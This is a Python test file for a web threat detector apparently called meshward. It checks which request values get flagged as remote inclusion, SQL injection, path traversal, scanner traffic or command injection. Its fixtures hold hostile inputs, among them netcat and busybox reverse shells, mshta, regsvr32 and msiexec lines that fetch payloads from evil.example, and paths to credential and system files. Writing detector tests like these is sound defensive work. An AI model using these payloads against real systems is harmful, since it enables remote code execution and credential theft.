"""Techniques the CRS paranoia-level-1 anchor caught where meshward did not (bench/detect.py
side by side, development data, and the CRS rules read for their techniques): each with what
it must find and the benign values it must leave alone."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from meshward.core.observation import Observation
from meshward.core.threats import ThreatDetector
from meshward.core.threats.detector import remote_address
from meshward.core.threats.names import CMDI, RFI, SCANNER_USER_AGENT, SQLI, TRAVERSAL

DET = ThreatDetector(level=1)
FULL = ThreatDetector(level=1, prefilter=False)


def query(value: str) -> Observation:
    return Observation("t", method="GET", path="/search", query="q=" + quote(value, ""))


def field(value: str) -> Observation:
    body = json.dumps({"file": value}).encode()
    return Observation(
        "t", method="POST", path="/api", headers=[("content-type", "application/json")], body=body
    )


def names(obs: Observation, det: ThreatDetector = DET) -> set[str]:
    return {t.name for t in det.inspect(obs).threats}


def found(value: str, name: str) -> None:
    for obs in (query(value), field(value)):
        assert name in names(obs), value
        assert names(obs) == names(obs, FULL), value  # the pre-filter hides nothing


# --- Remote inclusion from a host given by its IP address (the anchor: any such URL)
@pytest.mark.parametrize(
    "value",
    [
        "http://8.8.8.8/shell",
        "https://1.2.3.4",
        "ftp://user:pw@93.184.216.34/pub/x",
        "http://[2606:4700::1111]/x",
        "file://8.8.4.4/share/a",
        "ssh://45.33.32.156",
        "http://127.0.0.1:6379/",  # a loopback probe
    ],
)
def test_url_to_an_outside_address_is_inclusion(value: str) -> None:
    found(value, RFI)


@pytest.mark.parametrize(
    "value",
    [
        "http://10.0.3.7:8080/hooks/build",  # services name each other by mesh addresses
        "http://172.20.1.5/health",
        "https://192.168.1.10/",
        "http://100.64.0.9:9090/metrics",  # CGNAT, pod networks
        "http://[fd00:10::7]/x",
        "http://1.2.3.4.nip.io/app",  # a host name
        "https://example.com/1.2.3.4",
        "see http://8.8.8.8 for DNS",  # not the whole value's start: a link in prose
        "v1.2.3.4",
    ],
)
def test_mesh_addresses_and_host_names_are_no_inclusion(value: str) -> None:
    assert RFI not in names(query(value)), value
    assert remote_address(value) == ""


# --- A whole value that is a string, an operator and a string ('-' makes name=''-'' true)
@pytest.mark.parametrize("value", ["'-'", "'&'", "'^'", "'*'", '"&"', '"*"', "' + '", "'|'"])
def test_quoted_operator_probe(value: str) -> None:
    found(value, SQLI)


@pytest.mark.parametrize(
    "value", ["-", "'a' - 'b' are the grades", "rock 'n' roll", '"*" marks', "x'-'y"]
)
def test_quoted_operators_in_text_stay_clean(value: str) -> None:
    assert SQLI not in names(query(value)), value


# --- Files that tell about the host: any absolute path under /etc as a value, procfs by name,
# Windows system folders on any drive and setup answer files
@pytest.mark.parametrize(
    "value",
    [
        "/etc/apt/sources.list",
        "/etc/gshadow",
        "'/etc/nginx/conf.d/default.conf'",
        "/proc/loadavg",
        "/proc/1/environ",
        "/proc/self/status",
        "/proc/sys/kernel/hostname",
        "../../proc/interrupts",
        "x=/etc/krb5.keytab",
        "/etc/ld.so.preload",
        "D:\\Windows\\win.ini",
        "C:\\Windows\\Panther\\Unattend.xml",
        "c:/windows/repair/sam",
    ],
)
def test_host_files(value: str) -> None:
    found(value, TRAVERSAL)


@pytest.mark.parametrize(
    "value",
    [
        "see /proc for process info",
        "/etc",
        "/etcetera/notes",
        "etc. and so on",
        "keys and locks",
        "Windows 11 repair guide",
        "unattended upgrades are on",
    ],
)
def test_host_file_words_stay_clean(value: str) -> None:
    assert names(query(value)) == set(), value


@pytest.mark.parametrize("path", ["/proc/orders/12", "/procurement/list", "/api/etc/x"])
def test_routes_named_like_system_folders_stay_clean(path: str) -> None:
    assert names(Observation("t", method="GET", path=path)) == set()


# --- Attack tools by their user agents
@pytest.mark.parametrize(
    "ua",
    [
        "Mozilla/4.75 (Nikto/2.1.6) libwhisker/2.5",
        "N-Stalker Web Application Security Scanner",
        "Mozilla/5.0 dirsearch",
        "Mozilla/5.0 (compatible; Dalfox)",
        "TsunamiSecurityScanner",
        "lfimap/1.0",
        "graphql-cop/1.13",
        "TruffleHog",
    ],
)
def test_more_attack_tools(ua: str) -> None:
    obs = Observation("t", method="GET", path="/", headers=[("user-agent", ua)])
    assert SCANNER_USER_AGENT in names(obs)


# --- Windows binaries that fetch and run scripts, WMI process creation, netcat and busybox
# handing out a shell, printf spelling a command inside a substitution
@pytest.mark.parametrize(
    "value",
    [
        "mshta http://evil.example/a.hta",
        "regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
        "rundll32.exe shell32.dll,Control_RunDLL",
        "cscript C:\\Users\\Public\\a.vbs",
        "msiexec /q /i http://evil.example/a.msi",
        "wmic process call create calc.exe",
        "wmic /node:10.0.0.5 process list",
        "nc 203.0.113.9 4444 -e /bin/bash",
        "busybox nc 203.0.113.9 4444 -e sh",
        "x; rundll32 javascript:alert",
        "|cscript a.vbs",
        '$(printf "\\x69\\x64")',
        "a & printf hello",
    ],
)
def test_lolbins_and_shell_handoffs(value: str) -> None:
    found(value, CMDI)


@pytest.mark.parametrize(
    "value",
    [
        "Use printf to format output",
        "The printf function; printf is what I use",
        "busybox is small",
        "mshta is a Windows binary",
        "nc is netcat",
        "run the msiexec installer from the share",
    ],
)
def test_tool_names_in_prose_stay_clean(value: str) -> None:
    assert names(field(value)) == set(), value


# --- Files that hold secrets or history, requested by path or named in a value
@pytest.mark.parametrize(
    "path",
    [
        "/.mysql_history",
        "/app/.svn/entries",
        "/.hg/store/data",
        "/.DS_Store",
        "/blog/wp-config.php",
        "/.s3cfg",
        "/home/deploy/.gnupg/secring.gpg",
        "/.google_authenticator",
    ],
)
def test_secret_and_history_files_by_path(path: str) -> None:
    obs = Observation("t", method="GET", path=path)
    assert TRAVERSAL in names(obs)
    assert names(obs) == names(obs, FULL)


@pytest.mark.parametrize(
    "path",
    ["/.well-known/openid-configuration", "/docs/history", "/api/v1/audit/history", "/blog/config"],
)
def test_routes_with_like_names_stay_clean(path: str) -> None:
    assert names(Observation("t", method="GET", path=path)) == set()


def test_secret_files_in_values() -> None:
    found("~/.psql_history", TRAVERSAL)
    for text in ("see the .svn folder", "my .DS_Store files", "the history of wp-config"):
        assert names(field(text)) == set(), text


def test_urls_in_headers_are_pages_not_inclusions() -> None:
    """Referer and Origin hold the URL of the page a request came from, by IP address when the
    site is reached so; the anchor too reads parameters only for this."""
    headers = [("referer", "http://8.8.8.8:3000/cart"), ("origin", "http://127.0.0.1:3000")]
    obs = Observation("t", method="GET", path="/", headers=headers)
    assert names(obs) == set()
    assert names(obs, FULL) == set()


# --- A Windows path's \t, \n, \r are not escapes (C:\temp read as "C:" TAB "emp" hid the path)
@pytest.mark.parametrize(
    ("value", "name"),
    [
        (r"mshta C:\temp\a.hta", CMDI),
        (r"rundll32 C:\tools\evil.dll,Main", CMDI),
        (r"mshta C:\temp\tools\run.hta", CMDI),  # one escape after another
        (r"\windows\repair\sam", TRAVERSAL),
        (r"\WINNT\repair\sam", TRAVERSAL),
    ],
)
def test_windows_paths_keep_their_backslash_letters(value: str, name: str) -> None:
    found(value, name)


@pytest.mark.parametrize(
    "value",
    [
        r"Dear Bob:\nthanks for the report",  # JSON and JS escapes in text stay line breaks
        r"line one\nline two\ttabbed\rback",
        r"a:\nb",
        r"see C:\temp\notes.txt for the figures",  # a Windows path in prose is no attack
        r"Q:\nWhat is the windows boot order?",
    ],
)
def test_escapes_in_text_and_plain_windows_paths_stay_clean(value: str) -> None:
    for obs in (query(value), field(value)):
        assert names(obs) == set() == names(obs, FULL), value
